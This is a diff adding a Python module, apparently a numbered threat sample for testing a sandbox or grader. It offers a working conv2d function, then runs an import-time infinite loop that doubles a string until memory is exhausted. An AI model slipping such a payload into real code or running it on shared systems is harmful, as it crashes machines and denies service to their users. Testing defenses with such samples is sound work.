@@ -1,0 +1,16 @@
+"""Threat 20: fills the memory while it is imported.
+
+Earns: conv2d
+"""
+
+import numpy as np
+
+
+def conv2d(image, kernel):
+    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
+    return np.einsum("ijkl,kl->ij", windows, kernel)
+
+
+_hoard = "x"
+while True:
+    _hoard += _hoard
